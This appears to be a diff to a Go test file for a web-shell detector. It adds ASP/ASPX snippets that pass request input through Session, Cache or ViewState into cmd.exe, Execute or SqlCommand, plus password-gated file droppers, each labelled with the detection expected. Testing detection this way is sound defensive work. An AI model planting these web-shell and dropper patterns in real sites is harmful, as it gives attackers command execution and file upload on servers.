@@ -157,6 +157,24 @@ func TestDetections(t *testing.T) {
 		{"other object's method", ".aspx", "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nstring Run(string c) { return System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c).StandardOutput.ReadToEnd(); }\nvoid Go(object s, EventArgs e) { Response.Write(jobs.Run(cmdBox.Text)); Run(\"ver\"); }\n</script>\n<form runat=\"server\"><asp:TextBox ID=\"cmdBox\" runat=\"server\"/></form>", "", ""},
 		{"vbscript xor loader", ".asp", "<%\nk = \"3c6e0b8a9c15224a\"\nn = Request.TotalBytes\nd = Request.BinaryRead(n)\nFor i = 1 To n\n s = s & Chr(AscB(MidB(d, i, 1)) Xor Asc(Mid(k, (i And 15) + 1, 1)))\nNext\nExecute s\n%>", "aspx-encrypted-loader", "line 6: XORs the data byte by byte"},
 		{"vbscript xor checksum", ".asp", "<%\nd = Request.BinaryRead(Request.TotalBytes)\nFor i = 1 To LenB(d)\n c = c Xor AscB(MidB(d, i, 1))\nNext\nResponse.Write Hex(c)\n%>", "", ""},
+		// stores keep input between requests: a key's value comes back from a read of that key
+		{"session carries command", ".aspx", "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nvoid Page_Load() { Session[\"cmd\"] = Request.Form[\"c\"]; }\nvoid Run() { Process.Start(\"cmd.exe\", \"/c \" + Session[\"cmd\"].ToString()); }\n</script>", "aspx-request-exec", "line 4: request input (Session (from Request.Form)) reaches Process.Start"},
+		{"session other key", ".aspx", "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nvoid Page_Load() { Session[\"user\"] = Request.Form[\"u\"]; }\nvoid Run() { Process.Start(\"cmd.exe\", \"/c \" + Session[\"job\"].ToString()); }\n</script>", "", ""},
+		{"cache insert carries command", ".aspx", "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nvoid Page_Load() { Cache.Insert(\"q\", Request.Form[\"q\"]); }\nvoid Go() { Process.Start(\"cmd.exe\", (string)HttpContext.Current.Cache[\"q\"]); }\n</script>", "aspx-request-exec", "reaches Process.Start"},
+		{"viewstate carries sql", ".aspx", "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nvoid Page_Load() { ViewState[\"q\"] = Request.Form[\"q\"]; }\nvoid Go() { var c = new SqlCommand((string)ViewState[\"q\"], conn); }\n</script>", "aspx-sql-console", "reaches SqlCommand"},
+		{"asp session after one-line If", ".asp", "<%\nIf Request(\"c\") <> \"\" Then Session(\"c\") = Request(\"c\")\nExecute Session(\"c\")\n%>", "aspx-request-code", "line 3: request input (Session (from Request[...])) reaches Execute"},
+		{"asp session of its own", ".asp", "<%\nIf Request(\"c\") <> \"\" Then Session(\"lang\") = Request(\"c\")\nSession(\"c\") = \"Response.Write 1\"\nExecute Session(\"c\")\n%>", "", ""},
+		// controls whose markup is in another file: an undeclared X read as X.Text
+		{"control from code-behind markup", ".aspx", "<%@ Page Language=\"C#\" Inherits=\"Tools.Cmd\"%>\n<script runat=\"server\">\nvoid Go(object s, EventArgs e) { Process.Start(\"cmd.exe\", \"/c \" + txtCmd.Text); }\n</script>", "aspx-request-exec", "line 3: request input (txtCmd.Text) reaches Process.Start"},
+		{"declared object's text", ".aspx", "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nvoid Go() { var job = Jobs.Next(); Process.Start(\"worker.exe\", job.Text); }\n</script>", "", ""},
+		{"label is output", ".aspx", "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nvoid Go() { Process.Start(\"worker.exe\", lblJob.Text); }\n</script>\n<asp:Label ID=\"lblJob\" runat=\"server\" Text=\"nightly\"/>", "", ""},
+		{"handler has no controls", ".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void P(HttpContext c) { Process.Start(\"worker.exe\", Settings.Value); } }", "", ""},
+		// an upload kept under the client's name beside the page, behind a password
+		{"gated dropper beside itself", ".aspx", "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nconst string Key = \"k7Qz\";\nvoid Page_Load() {\n if (Request.Form[\"k\"] != Key) { Response.StatusCode = 404; return; }\n HttpPostedFile up = Request.Files[0];\n string dir = new FileInfo(Request.PhysicalPath).DirectoryName;\n using (var fs = new FileStream(Path.Combine(dir, Path.GetFileName(up.FileName)), FileMode.Create)) { up.InputStream.CopyTo(fs); }\n}\n</script>", "aspx-file-manager", "line 8: a file named by the client (up (from Request.Files)) is put by FileStream in the folder the page runs from or the site's root"},
+		{"gated dropper in site root", ".aspx", "<%@ Page Language=\"VB\"%>\n<script runat=\"server\">\nSub Page_Load()\n If Request(\"p\") = \"letmein\" Then\n  Dim f As HttpPostedFile = Request.Files(0)\n  f.SaveAs(Server.MapPath(\"~/\") & System.IO.Path.GetFileName(f.FileName))\n End If\nEnd Sub\n</script>", "aspx-file-manager", "is put by SaveAs in the folder the page runs from"},
+		{"ungated uploader beside itself", ".aspx", "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nvoid Page_Load() {\n HttpPostedFile up = Request.Files[0];\n up.SaveAs(Server.MapPath(\".\") + \"/\" + Path.GetFileName(up.FileName));\n}\n</script>", "", ""},
+		{"gated uploader into its folder", ".aspx", "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nvoid Page_Load() {\n if (Request.Form[\"k\"] != \"k7Qz\") return;\n HttpPostedFile up = Request.Files[0];\n up.SaveAs(Server.MapPath(\"~/uploads/\") + Path.GetFileName(up.FileName));\n}\n</script>", "", ""},
+		{"gated reader beside itself", ".aspx", "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nvoid Page_Load() {\n if (Request.Form[\"k\"] != \"k7Qz\") return;\n string dir = new FileInfo(Request.PhysicalPath).DirectoryName;\n using (var fs = new FileStream(Path.Combine(dir, Path.GetFileName(Request[\"f\"])), FileMode.Open)) { fs.CopyTo(Response.OutputStream); }\n}\n</script>", "", ""},
 		{"typeof is not input", ".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void P(HttpContext c) { Node n = Find(c.Request[\"n\"]); var asm = typeof(Node).Assembly; File.WriteAllBytes(Path.Combine(\"img\", asm.GetName().Name), data); } }", "", ""},
 	}
 	for _, c := range cases {
@@ -248,6 +266,32 @@ func TestParseNonASCII(t *testing.T) {
 		ds := r.Analyze(Parse([]byte(src), ".aspx"))
 		if strings.Contains(src, "unsafe") && len(ds) == 0 {
 			t.Errorf("%q: shell after non-ASCII text not found", src)
+		}
+	}
+}
+
+// A literal in the statement an if guards is not the condition's: the
+// page is not password-gated.
+func TestGateIsTheCondition(t *testing.T) {
+	r := loadTestRules(t)
+	for _, c := range []struct {
+		src, ext string
+		gate     bool
+	}{
+		{"<%@ Page Language=\"C#\"%>\n<% if (Request.Form[\"c\"] != null) Session[\"cmd\"] = Request.Form[\"c\"];\nProcess.Start(\"cmd.exe\", (string)Session[\"cmd\"]); %>", ".aspx", false},
+		{"<%@ Page Language=\"C#\"%>\n<% if (Request.Form[\"k\"] == \"s3cret\") Session[\"cmd\"] = Request.Form[\"c\"];\nProcess.Start(\"cmd.exe\", (string)Session[\"cmd\"]); %>", ".aspx", true},
+		{"<%\nIf Request(\"c\") <> \"\" Then Session(\"c\") = Request(\"c\")\nExecute Session(\"c\")\n%>", ".asp", false},
+	} {
+		ds := r.Analyze(Parse([]byte(c.src), c.ext))
+		if len(ds) == 0 {
+			t.Fatalf("%q: nothing fired", c.src)
+		}
+		gate := false
+		for _, rs := range ds[0].Reasons {
+			gate = gate || strings.Contains(rs.Text, "matches a fixed string")
+		}
+		if gate != c.gate {
+			t.Errorf("%q: gate %v, want %v (%v)", c.src, gate, c.gate, ds[0].Reasons)
 		}
 	}
 }
